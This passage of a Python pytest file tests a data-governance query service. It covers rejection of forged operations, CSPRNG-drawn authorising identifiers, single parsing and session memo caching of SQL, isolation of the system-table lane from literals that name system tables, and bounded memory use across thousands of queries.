            "plan": {"@type": "relation.range", "start": 0, "end": 1, "step": 1},
            "operation_id": "op-forged",
        }
        items = list(
            standard_cluster.service.handle_stream("execute_plan", forged)
        )
        assert items[0]["@type"] == "error"
        assert items[0]["error_class"] == "SessionError"


class TestIdentifiersVersusCapabilities:
    """Span and trace ids are guessable by construction (process prefix +
    counter); every id that *authorises* must still come from the CSPRNG."""

    def test_ids_that_authorise_are_drawn_from_the_csprng(
        self, workspace, standard_cluster, admin_client, monkeypatch
    ):
        from repro.common import ids
        from repro.core.efgac import STAGING_ROOT

        drawn: list[str] = []
        real = ids.os.urandom

        def recording_urandom(n):
            data = real(n)
            drawn.append(data.hex())
            return data

        monkeypatch.setattr(ids.os, "urandom", recording_urandom)

        def from_csprng(identifier: str) -> bool:
            assert ids._process_prefix not in identifier
            return identifier.rpartition("-")[2] in drawn

        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        assert from_csprng(alice.session_id)
        operation = standard_cluster.service.sessions.start_operation(alice.session_id)
        assert from_csprng(operation.operation_id)

        alice.table("main.sales.orders").collect()
        tokens = [c.token for c in workspace.catalog.vendor.live_credentials()]
        assert tokens and all(from_csprng(token) for token in tokens)

        # eFGAC staging prefix: force the staged result mode on a small table.
        dedicated = workspace.create_dedicated_cluster(assigned_user="alice")
        dedicated.backend.remote_executor._inline_threshold = 0
        staged: list[str] = []
        store = workspace.catalog.store
        real_put = store.put
        monkeypatch.setattr(
            store, "put",
            lambda path, *a, **k: staged.append(path) or real_put(path, *a, **k),
        )
        assert len(dedicated.connect("alice").table("main.sales.orders").collect()) == 2
        prefixes = {p.rsplit("/", 1)[0] for p in staged if p.startswith(STAGING_ROOT)}
        assert prefixes and all(from_csprng(prefix) for prefix in prefixes)

        # None of that was minted from the span counter, and no span drew
        # from the CSPRNG: a whole governed query costs it nothing.
        before = len(drawn)
        alice.table("main.sales.orders").collect()
        span_ids = [s.span_id for s in workspace.catalog.telemetry.spans(user="alice")]
        assert span_ids and all(ids._process_prefix in s for s in span_ids)
        client_side = 2  # the client's own op id and trace id (uuid4)
        assert len(drawn) - before <= client_side


class TestParseOnce:
    """One structural resolution — and at most one SQL parse — per operation,
    without weakening what the classification protects."""

    @pytest.fixture
    def parses(self, monkeypatch):
        """Count ``parse_statement`` calls wherever it is bound."""
        import repro.connect.proto  # noqa: F401 - resolves it lazily from the parser
        import repro.core.lakeguard as lakeguard
        import repro.core.plan_codec as plan_codec
        import repro.sql.parser as parser

        calls: list[str] = []
        real = parser.parse_statement

        def counting(sql, *args):
            calls.append(sql)
            return real(sql, *args)

        for module in (parser, plan_codec, lakeguard):
            monkeypatch.setattr(module, "parse_statement", counting)
        return calls

    def test_sql_relation_parses_once_on_a_miss_and_not_at_all_on_a_hit(
        self, standard_cluster, alice_client, parses, monkeypatch
    ):
        from repro.connect import proto

        resolutions: list[dict] = []
        real = proto.referenced_tables
        monkeypatch.setattr(
            proto, "referenced_tables",
            lambda plan, *a, **k: resolutions.append(plan) or real(plan, *a, **k),
        )
        cache = standard_cluster.backend.plan_cache
        sql = "SELECT id, amount FROM main.sales.orders WHERE amount > 15"
        alice_client.sql(sql).collect()
        assert (cache.stats.misses, len(parses), len(resolutions)) == (1, 1, 1)
        rows = alice_client.sql(sql).collect()
        assert cache.stats.hits == 1
        assert len(parses) == 1, "a repeated text on a plan-cache hit parses nothing"
        assert len(resolutions) == 2, "one structural resolution per operation"
        assert sorted(rows) == [(2, 20.0), (3, 30.0), (4, 40.0)]
        # A fresh literal is the same template: memo hit, plan hit, no parse.
        rows = alice_client.sql(sql.replace("15", "25")).collect()
        assert (cache.stats.hits, len(parses)) == (2, 1)
        assert sorted(rows) == [(3, 30.0), (4, 40.0)]
        # Memo hit but plan miss (the policy epoch moved): the decoder parses.
        standard_cluster.connect("admin").sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        del parses[:]
        assert sorted(alice_client.sql(sql).collect()) == [(3, 30.0)]
        assert parses == [sql]

    def test_literal_naming_a_system_table_cannot_reach_the_system_lane(
        self, standard_cluster, alice_client
    ):
        manager = standard_cluster.workload_manager
        bypassed, admitted = manager.system_bypass, manager.admitted_total
        bait = "SELECT id FROM main.sales.orders WHERE buyer = 'system.access.audit'"
        for _ in range(2):  # the second run classifies from the session memo
            assert alice_client.sql(bait).collect() == []
        assert manager.system_bypass == bypassed
        assert manager.admitted_total == admitted + 2
        alice_client.sql("SELECT * FROM system.access.query_profile").collect()
        assert manager.system_bypass == bypassed + 1

    def test_unparseable_text_stays_unknown(self, standard_cluster, alice_client):
        from collections import OrderedDict

        from repro.connect import proto
        from repro.errors import ParseError

        memo: OrderedDict = OrderedDict()
        registry = standard_cluster.backend.catalog.system_tables
        garbage = proto.sql_relation("NOT SQL AT ALL system.access.audit")
        for _ in range(2):  # resolved, then remembered: "unknown" both times
            refs = proto.resolve_references(garbage, memo)
            assert refs.tables is None and not refs.all_system_tables(registry)
            assert refs.targets_system_tables(registry)  # conservative cache bypass
        manager = standard_cluster.workload_manager
        bypassed = manager.system_bypass
        with pytest.raises(ParseError):
            alice_client.sql("NOT SQL AT ALL system.access.audit").collect()
        assert manager.system_bypass == bypassed

    def test_memo_is_bounded_private_to_a_session_and_dies_with_it(
        self, standard_cluster, alice_client
    ):
        import gc
        import weakref

        from repro.connect.proto import REFERENCE_MEMO_ENTRIES

        sessions = standard_cluster.service.sessions
        session = sessions.get_session(alice_client.session_id, "alice")
        for i in range(3):  # literals are not part of the memo key
            alice_client.sql(f"SELECT id FROM main.sales.orders WHERE id = {i}").collect()
        assert len(session.reference_memo) == 1
        for i in range(REFERENCE_MEMO_ENTRIES + 10):
            alice_client.sql(f"SELECT id AS c{i} FROM main.sales.orders").collect()
        assert len(session.reference_memo) == REFERENCE_MEMO_ENTRIES
        # Immutable outcomes only: names or "unresolvable", never an AST.
        assert all(
            names is None or isinstance(names, frozenset)
            for names in session.reference_memo.values()
        )
        second = standard_cluster.connect("alice")
        assert not sessions.get_session(second.session_id, "alice").reference_memo
        memo = weakref.ref(session.reference_memo)
        del session
        alice_client.close()
        gc.collect()
        assert memo() is None


class TestBoundedBookkeeping:
    def test_heap_is_flat_in_the_number_of_queries(
        self, standard_cluster, alice_client
    ):
        """Spans, histograms, tombstones and memos are all bounded: ten
        times the queries must not mean a bigger heap."""
        import gc
        import tracemalloc

        from repro.errors import RetryableError

        def run(count):
            for i in range(count):
                frame = alice_client.sql(
                    f"SELECT id, amount FROM main.sales.orders WHERE id = {i % 4}"
                )
                try:
                    frame.collect()
                except RetryableError:
                    # A chaos leg can exhaust the recovery ladder once in
                    # thousands of queries; the client's move is to resubmit.
                    frame.collect()
            gc.collect()
            return tracemalloc.get_traced_memory()[0]

        tracemalloc.start()
        try:
            after_300 = run(300)
            after_3000 = run(2_700)
        finally:
            tracemalloc.stop()
        assert after_3000 <= 1.10 * after_300, (after_300, after_3000)
